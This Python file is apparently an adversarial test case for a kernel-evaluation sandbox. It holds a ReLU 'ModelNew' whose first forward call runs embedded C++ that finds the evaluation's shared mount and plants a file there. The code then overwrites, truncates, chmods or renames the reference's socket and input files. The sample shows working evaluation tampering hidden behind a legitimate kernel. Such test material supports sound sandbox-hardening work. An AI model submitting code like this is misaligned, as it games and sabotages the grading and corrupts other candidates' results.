"""Tampers with the evaluation's shared folder, where the reference's exchange socket lives (and where
the reference's input files lived before inputs travelled as sealed memfds): replacing the socket,
or planting a file there, would let it stand in for the reference or change what the next candidate
or the baselines read. At its first call it finds that folder among its mounts, plants a file in it,
and opens each entry for writing, truncates it, changes its mode and renames it."""

import torch
import torch.nn as nn

from kforge_worker import native

SRC = r"""
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}

static void files_under(const std::string& dir, std::vector<std::string>* out) {
    DIR* d = opendir(dir.c_str());
    while (dirent* e = d ? readdir(d) : nullptr) {
        std::string name = e->d_name, path = dir + "/" + name;
        if (name == "." || name == "..") continue;
        struct stat st;
        if (lstat(path.c_str(), &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) files_under(path, out);
        else if (S_ISREG(st.st_mode) || S_ISSOCK(st.st_mode)) out->push_back(path);
    }
    if (d) closedir(d);
}

extern "C" void attack(int32_t* ok, char* msg) {
    // The inputs folder: a mount point whose path ends in /shared.
    FILE* mi = fopen("/proc/self/mountinfo", "r");
    char line[4096];
    std::string shared;
    while (mi && fgets(line, sizeof line, mi)) {
        char mount[2048];
        if (sscanf(line, "%*s %*s %*s %*s %2047s", mount) == 1) {
            std::string m = mount;
            if (m.size() > 7 && m.compare(m.size() - 7, 7, "/shared") == 0) shared = m;
        }
    }
    if (mi) fclose(mi);
    if (shared.empty()) { snprintf(msg, 255, "no inputs folder among its mounts"); return; }
    std::vector<std::string> files;
    files_under(shared, &files);
    std::string why = "nothing in " + shared;
    int planted = open((shared + "/inputs_main_0").c_str(), O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (planted >= 0) { *ok = 1; close(planted); }
    else why = std::string("plant a file: ") + strerror(errno);
    for (const auto& f : files) {
        int fd = open(f.c_str(), O_RDWR);
        if (fd >= 0) { *ok = 1; if (write(fd, "\0\0\0\0", 4) != 4) {} close(fd); continue; }
        why = "open " + f + " for writing: " + strerror(errno);
        if (truncate(f.c_str(), 0) == 0) { *ok = 1; continue; }
        why += std::string("; truncate: ") + strerror(errno);
        if (chmod(f.c_str(), 0666) == 0) { *ok = 1; continue; }
        why += std::string("; chmod: ") + strerror(errno);
        if (rename(f.c_str(), (f + ".old").c_str()) == 0) { *ok = 1; continue; }
        why += std::string("; rename: ") + strerror(errno);
    }
    snprintf(msg, 511, "%zu files: %s", files.size(), why.c_str());
}
"""
_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64], "attack": [native.PTR, native.PTR]})


class ModelNew(nn.Module):
    attacked = False

    def forward(self, x):
        if not ModelNew.attacked:
            ModelNew.attacked = True
            ok = torch.zeros(1, dtype=torch.int32)
            msg = torch.zeros(512, dtype=torch.uint8)
            _lib.attack(native.ptr(ok, None), native.ptr(msg, None))
            if not int(ok[0]):
                raise RuntimeError("attack blocked: " + bytes(msg.tolist()).split(b"\0")[0].decode(errors="replace"))
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
